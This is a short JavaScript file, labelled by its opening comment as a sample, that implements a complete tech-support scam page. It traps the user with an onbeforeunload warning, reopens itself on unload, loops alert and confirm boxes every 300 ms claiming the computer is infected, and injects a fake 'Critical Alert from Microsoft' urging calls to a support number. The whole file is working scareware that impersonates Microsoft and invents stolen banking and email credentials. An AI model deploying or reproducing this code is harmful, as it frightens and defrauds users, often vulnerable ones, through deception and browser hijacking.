// corpus note: onbeforeunload trap plus an endless alert/confirm loop telling the user their PC is infected
var supportLine = "+1-877-555-0122";
var msgs = [
  "WARNING! Your computer is infected with 5 viruses. Call " + supportLine,
  "Internet Security Damaged !!! Call Help Desk " + supportLine,
  "Do NOT close this window. Your personal data will be lost. Call " + supportLine
];

window.onbeforeunload = function (e) {
  var text = "Are you sure you want to leave? Your files will be DELETED. Call " + supportLine;
  (e || window.event).returnValue = text;
  return text;
};

window.addEventListener("unload", function () {
  window.open(location.href, "_blank");
});

function nag(i) {
  var m = msgs[i % msgs.length];
  if (i % 2 === 0) {
    alert(m);
  } else {
    var ok = confirm(m + "\n\nPress OK to call a certified technician.");
    if (ok) location.href = "tel:" + supportLine.replace(/[^\d+]/g, "");
  }
  setTimeout(function () { nag(i + 1); }, 300);
}

document.addEventListener("DOMContentLoaded", function () {
  document.body.innerHTML +=
    '<div style="font:16px Tahoma;padding:30px;background:#fff"><h2 style="color:red">Critical Alert from Microsoft</h2>' +
    "<p>Your computer has alerted us that it has been infected with a Spyware. The following data has been compromised: " +
    "Email Credentials, Banking Passwords, Facebook Login, Pictures &amp; Documents.</p>" +
    "<p style='font-size:26px'>Call Technical Support: <b>" + supportLine + "</b></p></div>";
  nag(0);
});
